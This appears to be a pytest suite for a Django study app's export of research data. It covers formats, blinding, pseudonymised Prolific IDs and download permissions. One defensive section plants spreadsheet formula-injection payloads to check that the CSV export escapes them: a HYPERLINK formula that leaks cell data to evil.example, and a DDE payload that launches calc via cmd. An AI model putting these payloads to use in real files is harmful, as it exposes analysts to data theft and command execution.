from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from studyapp.analysis import exports, services
from studyapp.analysis.identifiers import pseudonymizer
from studyapp.chat.models import Message
from studyapp.participation.models import Allocation, Answer, Participant
from tests.analysis.scored import ARM_SECRETS, PIDS, SESSIONS
from tests.factories import make_study

EXPECTED_ROWS = {
    "participants": 5,
    "tasks": 5,
    "answers": 5,
    "messages": 6,
    "allocations": 4,
    "labels": 0,
    "adjudications": 0,
    "information_transfer": 0,  # the scored study's scenarios have no key facts
    "rubric_scores": 0,
    "rubric_verdicts": 0,
    "questionnaire_answers": 0,
}


@pytest.fixture
def ledger(scored):
    """Allocation rows for the four allocated participants, and one skipped slot."""
    allocated = list(scored.study.participants.exclude(arm=None).order_by("pk"))
    rows = [(p.arm, "assigned", p) for p in allocated[:3]]
    rows.append((scored.llm, "arm_full", None))
    for sequence, (arm, outcome, participant) in enumerate(rows, start=1):
        Allocation.objects.create(
            study=scored.study,
            sequence=sequence,
            stratum="",
            stratum_sequence=sequence,
            block=1,
            block_size=4,
            block_position=sequence,
            arm=arm,
            outcome=outcome,
            participant=participant,
            created_at=timezone.now(),
        )
    return scored


def export(tmp_path, fmt: str, *extra: str) -> dict:
    out = StringIO()
    call_command(
        "export_study", "beta", "--format", fmt, "--out", str(tmp_path), *extra, stdout=out
    )
    assert "answers." + fmt + ": 5 rows" in out.getvalue()
    return json.loads((tmp_path / "data_dictionary.json").read_text())


def read_table(path, fmt: str) -> tuple[list[str], list[dict]]:
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as f:
            reader = csv.DictReader(f)
            return list(reader.fieldnames), list(reader)
    if fmt == "jsonl":
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        return (list(rows[0]) if rows else []), rows
    table = pq.read_table(path)
    return table.column_names, table.to_pylist()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_every_table_round_trips_with_the_dictionarys_columns(tmp_path, ledger, fmt):
    services.conversation_scores_refresh(study=ledger.study)
    # One answer whose participant set the confidence; the others were not recorded.
    first_answer = Answer.objects.filter(task__participant__study=ledger.study).order_by("pk")[0]
    Answer.objects.filter(pk=first_answer.pk).update(confidence_set=True)
    dictionary = export(tmp_path, fmt)
    assert dictionary["study"] == "beta"
    assert dictionary["format"] == fmt
    tables = {t["name"]: t for t in dictionary["tables"]}
    assert set(tables) == set(EXPECTED_ROWS)
    for name, expected in EXPECTED_ROWS.items():
        columns, rows = read_table(tmp_path / tables[name]["file"], fmt)
        if rows or fmt != "jsonl":  # an empty JSONL file names no columns
            assert columns == [c["name"] for c in tables[name]["columns"]], name
        assert len(rows) == expected == tables[name]["rows"], name
        for column in tables[name]["columns"]:
            assert column["type"] in exports.ARROW_TYPES
            assert column["meaning"]
    _columns, answers = read_table(tmp_path / f"answers.{fmt}", fmt)
    first = answers[0]
    if fmt == "csv":
        assert first["conditions_correct"] == "true"
        assert json.loads(first["matched_conditions"]) == ["appendicitis"]
        assert first["disposition_distance"] == "0"
    else:
        assert first["conditions_correct"] is True
        assert first["matched_conditions"] == ["appendicitis"]
        assert first["disposition_distance"] == 0
    assert [a["arm"] for a in answers] == ["gptarmzq"] * 3 + ["ctlarmzq"] * 2
    assert {a["language"] for a in answers} == {"en"}
    confidence_set = [a["confidence_set"] for a in answers]
    if fmt == "csv":
        assert confidence_set == ["true"] + [""] * 4
    else:
        assert confidence_set == [True] + [None] * 4
    described = {c["name"]: c["type"] for c in tables["answers"]["columns"]}
    assert described["confidence_set"] == "boolean"
    _columns, participants = read_table(tmp_path / f"participants.{fmt}", fmt)
    assert {p["language"] for p in participants} == {"en"}
    _columns, messages = read_table(tmp_path / f"messages.{fmt}", fmt)
    assert messages[1]["text"] == "It may be appendicitis."
    assert messages[1]["role"] == "assistant"
    _columns, tasks = read_table(tmp_path / f"tasks.{fmt}", fmt)
    named = tasks[1]["chat_model_named"]
    assert (json.loads(named) if fmt == "csv" else named) == ["muscle strain"]
    _columns, ledger_rows = read_table(tmp_path / f"allocations.{fmt}", fmt)
    assert [r["outcome"] for r in ledger_rows] == ["assigned"] * 3 + ["arm_full"]


def test_the_parquet_files_have_typed_columns(tmp_path, ledger):
    export(tmp_path, "parquet")
    schema = pq.read_schema(tmp_path / "answers.parquet")
    assert str(schema.field("confidence").type) == "int64"
    assert str(schema.field("conditions_correct").type) == "bool"
    assert str(schema.field("created_at").type) == "timestamp[us, tz=UTC]"
    assert str(schema.field("matched_conditions").type) == "list<element: string>"


def test_the_data_dictionary_also_comes_as_csv(tmp_path, ledger):
    dictionary = export(tmp_path, "csv")
    with (tmp_path / "data_dictionary.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == sum(len(t["columns"]) for t in dictionary["tables"])
    assert {"table": "answers", "column": "confidence", "type": "integer"}.items() <= next(
        r for r in rows if r["table"] == "answers" and r["column"] == "confidence"
    ).items()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_no_export_contains_a_participant_token(tmp_path, ledger, fmt):
    export(tmp_path, fmt)
    tokens = [p.token for p in Participant.objects.all()]
    for path in tmp_path.iterdir():
        data = path.read_bytes()
        for token in tokens:
            assert token.encode() not in data, path.name
    dictionary = json.loads((tmp_path / "data_dictionary.json").read_text())
    columns = {c["name"] for t in dictionary["tables"] for c in t["columns"]}
    assert "token" not in columns


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_a_blinded_export_names_arms_by_letter_only(tmp_path, ledger, fmt):
    dictionary = export(tmp_path, fmt, "--blinded")
    assert dictionary["blinded"] is True
    for path in tmp_path.iterdir():
        data = path.read_bytes()
        for secret in ARM_SECRETS:
            assert secret.encode() not in data, (path.name, secret)
    columns, answers = read_table(tmp_path / f"answers.{fmt}", fmt)
    assert "arm" not in columns
    assert {a["arm_letter"] for a in answers} == {"A", "B"}
    columns, _ = read_table(tmp_path / f"tasks.{fmt}", fmt)
    assert "model" not in columns


def test_the_command_refuses_an_unknown_study_or_table(tmp_path, scored):
    with pytest.raises(CommandError, match="No study"):
        call_command("export_study", "nope", "--out", str(tmp_path))
    with pytest.raises(CommandError, match="Unknown table"):
        call_command("export_study", "beta", "--out", str(tmp_path), "--tables", "secrets")


def test_the_command_can_export_some_tables(tmp_path, scored):
    call_command(
        "export_study", "beta", "--out", str(tmp_path), "--tables", "answers", stdout=StringIO()
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "answers.csv",
        "data_dictionary.csv",
        "data_dictionary.json",
    ]
    dictionary = json.loads((tmp_path / "data_dictionary.json").read_text())
    assert [t["name"] for t in dictionary["tables"]] == ["answers"]


def download(client, table: str, fmt: str, **params):
    url = reverse("analysis:export_table", args=["beta", table, fmt])
    return client.get(url, params)


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv"),
        ("jsonl", "application/x-ndjson"),
        ("parquet", "application/vnd.apache.parquet"),
    ],
)
def test_the_dashboard_streams_downloads(client, alice, ledger, fmt, content_type):
    client.force_login(alice)
    response = download(client, "answers", fmt)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="beta-answers.{fmt}"'
    body = b"".join(response.streaming_content)
    if fmt == "parquet":
        assert pq.read_table(io.BytesIO(body)).num_rows == 5
    elif fmt == "csv":
        assert len(list(csv.DictReader(io.StringIO(body.decode())))) == 5
    else:
        assert len(body.decode().splitlines()) == 5


def test_a_blinded_download_is_blinded(client, alice, ledger):
    client.force_login(alice)
    response = download(client, "messages", "csv", blinded="1")
    body = b"".join(response.streaming_content).decode()
    assert response["Content-Disposition"] == 'attachment; filename="beta-messages-blinded.csv"'
    for secret in ARM_SECRETS:
        assert secret not in body
    dictionary = client.get(
        reverse("analysis:export_dictionary", args=["beta", "json"]), {"blinded": "1"}
    ).json()
    answers = next(t for t in dictionary["tables"] if t["name"] == "answers")
    assert "arm" not in [c["name"] for c in answers["columns"]]


def test_downloads_are_for_the_studys_investigators_only(client, bob, ledger):
    assert download(client, "answers", "csv").status_code == 302
    client.force_login(bob)
    assert download(client, "answers", "csv").status_code == 404
    url = reverse("analysis:export_dictionary", args=["beta", "json"])
    assert client.get(url).status_code == 404


def test_an_unknown_table_or_format_is_not_found(client, alice, scored):
    client.force_login(alice)
    assert download(client, "sessions", "csv").status_code == 404
    assert download(client, "answers", "xlsx").status_code == 404
    url = reverse("analysis:export_dictionary", args=["beta", "xml"])
    assert client.get(url).status_code == 404


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_a_download_is_streamed_part_by_part(alice, scored):
    from asgiref.sync import sync_to_async
    from django.db import connections
    from django.test import AsyncRequestFactory

    from studyapp.analysis.views_dashboard import export_table

    request = AsyncRequestFactory().get("/studies/beta/analysis/export/messages.csv")
    request.user = alice
    view = sync_to_async(export_table)  # as Django's ASGI handler calls a sync view
    response = await view(request, slug="beta", table="messages", fmt="csv")
    assert response.status_code == 200
    # An async iterator, which Django sends part by part (a sync one it would read whole).
    assert response.is_async
    parts = [part async for part in response.streaming_content]
    assert len(parts) >= 2  # the header, then the rows
    rows = list(csv.DictReader(io.StringIO(b"".join(parts).decode())))
    assert len(rows) == 6
    # The view and every part ran on one thread: close its connection like a request end.
    await sync_to_async(connections.close_all)()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_an_empty_table_is_still_a_valid_file(tmp_path, scored, fmt):
    call_command(
        "export_study",
        "beta",
        "--format",
        fmt,
        "--out",
        str(tmp_path),
        "--tables",
        "allocations",
        stdout=StringIO(),
    )
    path = tmp_path / f"allocations.{fmt}"
    if fmt == "parquet":
        table = pq.read_table(path)
        assert table.num_rows == 0
        assert "sequence" in table.column_names
    elif fmt == "csv":
        assert path.read_text().startswith("sequence,participant_id,arm,arm_letter,")
    else:
        assert path.read_bytes() == b""


# --- Pseudonymous Prolific ids --------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
@pytest.mark.parametrize("blinded", [False, True], ids=["unblinded", "blinded"])
def test_exports_name_prolific_participants_by_pseudonym_only(tmp_path, prolific, fmt, blinded):
    dictionary = export(tmp_path, fmt, *(["--blinded"] if blinded else []))
    for path in tmp_path.iterdir():
        data = path.read_bytes()
        for secret in PIDS + SESSIONS:
            assert secret.encode() not in data, (path.name, secret)
    assert dictionary["identifiers"] == "pseudonymous"
    columns, participants = read_table(tmp_path / f"participants.{fmt}", fmt)
    assert "prolific_pid" not in columns and "prolific_session_id" not in columns
    assert "participant_id" in columns
    pseudonyms = [p["prolific_pid_pseudonym"] for p in participants]
    assert all(len(x) == 16 and int(x, 16) >= 0 for x in pseudonyms[:4])
    assert len(set(pseudonyms[:4])) == 4
    assert pseudonyms[4] in ("", None)  # no PID, no pseudonym
    assert {p["prolific_study_id"] for p in participants[:4]} == {"64bbstudyzz"}


def test_a_pseudonym_is_stable_across_exports_and_differs_between_studies(
    tmp_path, prolific, settings
):
    first = export(tmp_path / "1", "jsonl")
    second = export(tmp_path / "2", "jsonl")
    assert first["identifiers"] == second["identifiers"] == "pseudonymous"
    _c, one = read_table(tmp_path / "1" / "participants.jsonl", "jsonl")
    _c, two = read_table(tmp_path / "2" / "participants.jsonl", "jsonl")
    assert [p["prolific_pid_pseudonym"] for p in one] == [p["prolific_pid_pseudonym"] for p in two]
    other = make_study("gamma")
    here = pseudonymizer(study_id=prolific.study.pk)
    assert one[0]["prolific_pid_pseudonym"] == here(PIDS[0])
    assert pseudonymizer(study_id=other.pk)(PIDS[0]) != here(PIDS[0])


def test_a_dedicated_key_keeps_pseudonyms_through_a_secret_key_rotation(db, settings):
    settings.EXPORT_PSEUDONYM_KEY = ""
    derived = pseudonymizer(study_id=1)(PIDS[0])
    settings.SECRET_KEY = "rotated-" + settings.SECRET_KEY
    assert pseudonymizer(study_id=1)(PIDS[0]) != derived
    settings.EXPORT_PSEUDONYM_KEY = "a-dedicated-export-key-of-this-server"
    keyed = pseudonymizer(study_id=1)(PIDS[0])
    settings.SECRET_KEY = "rotated-again"
    assert pseudonymizer(study_id=1)(PIDS[0]) == keyed != derived


def test_the_data_dictionary_says_how_pseudonyms_are_made(client, alice, scored):
    client.force_login(alice)
    dictionary = client.get(reverse("analysis:export_dictionary", args=["beta", "json"])).json()
    assert dictionary["identifiers"] == "pseudonymous"
    convention = dictionary["conventions"]["identifiers"]
    assert "HMAC-SHA256" in convention and "EXPORT_PSEUDONYM_KEY" in convention
    participants = next(t for t in dictionary["tables"] if t["name"] == "participants")
    names = [c["name"] for c in participants["columns"]]
    assert "prolific_pid_pseudonym" in names and "prolific_pid" not in names
    assert "' so that a spreadsheet does not run them" in dictionary["conventions"]["csv"]


# --- Spreadsheet formulas in CSV ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.fixture
def planted(scored):
    """Participant text a spreadsheet would run: in answers, messages and the stratum."""
    answers = list(Answer.objects.filter(task__participant__study=scored.study).order_by("pk"))
    for answer, text in zip(answers, FORMULAS, strict=False):
        Answer.objects.filter(pk=answer.pk).update(conditions_text=text)
    first = Message.objects.filter(conversation__task__participant=scored.p1).order_by("pk")[0]
    Message.objects.filter(pk=first.pk).update(text=FORMULAS[0])
    Participant.objects.filter(pk=scored.p1.pk).update(stratum="=1+1")
    return scored


def test_csv_escapes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, planted):
    export(tmp_path, "csv")
    _c, answers = read_table(tmp_path / "answers.csv", "csv")
    assert [a["conditions_text"] for a in answers] == ["'" + t for t in FORMULAS[:5]]
    # Numbers stay numbers: a negative distance is -1, not '-1.
    assert sorted({a["disposition_distance"] for a in answers}) == ["-1", "0", "1"]
    _c, messages = read_table(tmp_path / "messages.csv", "csv")
    assert messages[0]["text"] == "'" + FORMULAS[0]
    _c, participants = read_table(tmp_path / "participants.csv", "csv")
    assert participants[0]["stratum"] == "'=1+1"
    # Dropping one leading ' gives the text back.
    assert [a["conditions_text"][1:] for a in answers] == FORMULAS[:5]
    for path in tmp_path.glob("*.csv"):
        for row in csv.reader(path.open(newline="", encoding="utf-8")):
            for cell in row:
                if cell and cell[0] in "=+@\t\r":
                    raise AssertionError((path.name, cell))
                if cell.startswith("-"):
                    int(cell)  # only numbers may start with a minus


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_text_verbatim(tmp_path, planted, fmt):
    export(tmp_path, fmt)
    _c, answers = read_table(tmp_path / f"answers.{fmt}", fmt)
    assert [a["conditions_text"] for a in answers] == FORMULAS[:5]
    _c, participants = read_table(tmp_path / f"participants.{fmt}", fmt)
    assert participants[0]["stratum"] == "=1+1"


def test_a_csv_download_is_escaped_too(client, alice, planted):
    client.force_login(alice)
    body = b"".join(download(client, "answers", "csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["conditions_text"] == "'" + FORMULAS[0]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("", ""),
        ("appendicitis", "appendicitis"),
        (" =1", " =1"),
        ("a=1", "a=1"),
    ],
)
def test_csv_text(text, cell):
    assert exports.csv_text(text) == cell


def test_the_data_dictionary_names_the_analysis_plan(client, alice, scored):
    from studyapp.analysis.selectors_plan import plan_state

    client.force_login(alice)
    dictionary = client.get(reverse("analysis:export_dictionary", args=["beta", "json"])).json()
    state = plan_state(study=scored.study)
    assert dictionary["analysis_plan"]["sha256"] == state.current.sha256
    assert dictionary["analysis_plan"]["version"] == 1
    assert dictionary["analysis_plan"]["locked_at"] is None  # nobody allocated through consent
